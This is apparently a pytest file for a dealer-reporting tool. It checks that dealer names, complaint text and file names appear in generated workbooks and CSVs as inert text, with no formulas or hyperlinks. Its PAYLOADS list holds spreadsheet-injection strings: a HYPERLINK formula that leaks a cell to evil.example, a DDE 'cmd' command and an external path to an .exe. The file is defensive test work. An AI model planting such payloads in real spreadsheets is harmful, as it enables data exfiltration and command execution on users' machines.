"""Nothing typed by a dealer or a colleague becomes a formula or a link in anything dealerxl writes.

The payloads are the ones an attacker returns in a template (a formula that builds a link
from another cell, a DDE command, an ``external:`` path, a plain URL); they go into every
output that shows outside text: the monthly report, the dealer statements, a review, the
collection report, the synced workbook and the reminder CSV. Each must hold the text as
text: no ``<f>`` formula carries it, no hyperlink is made, and a CSV cell starting like a
formula is written with a leading apostrophe.
"""
from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook
from support.keys import department_key  # noqa: F401  (fixture)
from test_exchange import fill, monthly_rows


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B2,"Click me")', "=cmd|' /C calc'!A0",
            "external:\\\\evil.example\\share\\x.exe", "https://evil.example/login", "+1+1", "@SUM(1,2)"]
MONTH = "2026-10"
DEALERS = ["D00001", "D00002", "D00003", "D00005", "D00008", "D00009"]  # active in the sample all year: they get reminders


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory, sample_data):
    """The small sample with payloads for dealer names and for the ids and descriptions of open complaints."""
    from workbook_fixtures import sample_workbook

    frames = {name: frame.copy() for name, frame in sample_data.items()}
    names = frames["dealer_master"]
    for dealer, payload in zip(DEALERS, PAYLOADS):
        names.loc[names["dealer_id"] == dealer, "dealer_name"] = payload
    complaints = frames["complaint_log"]
    mine = complaints.index[complaints["dealer_id"] == "D00001"][:len(PAYLOADS)]
    complaints.loc[mine, "complaint_id"] = PAYLOADS[:len(mine)]
    complaints.loc[mine, "description"] = PAYLOADS[:len(mine)]
    complaints.loc[mine, "resolved_at"] = None
    complaints.loc[mine, "case_status"] = "open"
    return sample_workbook(tmp_path_factory.mktemp("hostile") / "hostile.xlsx", "en", frames=frames)


def sheet_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()
                if name.startswith("xl/worksheets/") or name.endswith(".rels")}


def assert_plain(path: Path, expected: list[str]) -> None:
    """No formula or link in ``path`` carries outside text, and every ``expected`` text is a cell's text."""
    parts = sheet_parts(path)
    formulas = [f for name, xml in parts.items() if name.endswith(".xml")
                for f in re.findall(rb"<f[^>]*>(.*?)</f>", xml, re.S)]
    for formula in formulas:
        assert not re.search(rb"HYPERLINK|cmd\||evil\.example|SUM\(1,2\)|1\+1", formula), formula
    assert not any(b"<hyperlink" in xml for name, xml in parts.items() if name.endswith(".xml")), path.name
    assert not any(b"/hyperlink" in xml for name, xml in parts.items() if name.endswith(".rels")), path.name
    book = CalamineWorkbook.from_path(str(path))
    texts = {cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
             for cell in row if isinstance(cell, str)}
    for text in expected:
        assert any(text in cell for cell in texts), (path.name, text)


def test_the_dealer_statements_hold_the_payloads_as_text(hostile_book, tmp_path):
    from dealerxl.report.statements import run_statements, write_statements

    result = run_statements(hostile_book, MONTH, dealers=DEALERS[:4], lang="en")
    written = write_statements(result, tmp_path / "statements.xlsx")
    assert_plain(written, PAYLOADS[:4])


def test_the_monthly_report_holds_the_payloads_as_text(hostile_book, tmp_path):
    from dealerxl.report.monthly import run_monthly_report
    from dealerxl.report.workbook import write_report

    written = write_report(run_monthly_report(hostile_book, MONTH, lang="en"), tmp_path / "report.xlsx")
    shown = set()
    book = CalamineWorkbook.from_path(str(written))
    for name in book.sheet_names:
        shown |= {c for row in book.get_sheet_by_name(name).to_python() for c in row if isinstance(c, str)}
    assert_plain(written, [p for p in PAYLOADS if p in shown])
    assert any(p in shown for p in PAYLOADS)  # the report lists dealers by name: some payload is shown


def test_a_review_workbook_holds_the_payloads_as_text(hostile_book, tmp_path):
    from dealerxl.cli import main

    out = tmp_path / "appraisal.xlsx"
    assert main(["appraise", str(hostile_book), "--month", MONTH, "--out", str(out), "--quiet", "--lang", "en"]) in (0, 1)
    shown = {c for row in CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python() for c in row}
    assert_plain(out, [p for p in PAYLOADS if p in shown])


def test_the_collection_report_the_reminders_and_the_synced_workbook_hold_the_payloads_as_text(
        hostile_book, tmp_path):
    from dealerxl.exchange import collect_files, issue_templates
    from dealerxl.exchange.collect import write_outputs
    from dealerxl.jobs.sync import sync_workbook

    issued = tmp_path / "issued"
    issue_templates("dealer_monthly", MONTH, issued, workbook=hostile_book, recipients=DEALERS[:1])
    rows = monthly_rows(len(PAYLOADS)).assign(sku_name=PAYLOADS, note=PAYLOADS)
    inbox = tmp_path / "inbox"
    sent = issued / f"dealer_monthly_{MONTH}_D00001.xlsx"
    fill(sent, inbox / "good.xlsx", rows)
    fill(sent, inbox / "bad.xlsx", rows.assign(opening_stock_qty=PAYLOADS))  # refused: the reasons quote it
    (inbox / "good.xlsx").rename(inbox / f"{PAYLOADS[4]}.xlsx")  # a file name is outside text too
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    result = collect_files([inbox], store_url=url, workbook=hostile_book, archive=tmp_path / "archive",
                           form_id="dealer_monthly", period=MONTH)
    assert sorted(o.status for o in result.collection.outcomes) == ["accepted", "rejected"]
    report, reminders = write_outputs(result, tmp_path / "reports" / "collection.xlsx")
    assert_plain(report, [f"{PAYLOADS[4]}.xlsx", PAYLOADS[0]])
    with open(reminders, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for payload in PAYLOADS[1:]:  # the names of the dealers still missing
        assert ("'" + payload if payload.startswith(("=", "+", "@")) else payload) in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    synced = sync_workbook(hostile_book, forms=["dealer_monthly"], url=url, out=tmp_path / "synced.xlsx", lang="en")
    assert_plain(synced.outputs[0], PAYLOADS)


def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path):
    from dealerxl.jobs.outputs import write_csv

    frame = pd.DataFrame({"text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", None], "number": range(8)})
    frame.loc[7, "number"] = -7
    path = write_csv(frame, tmp_path / "out.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["text", "number"]
    assert [row[0] for row in rows] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", ""]
    assert [row[1] for row in rows] == ["0", "1", "2", "3", "4", "5", "6", "-7"]  # numbers stay numbers
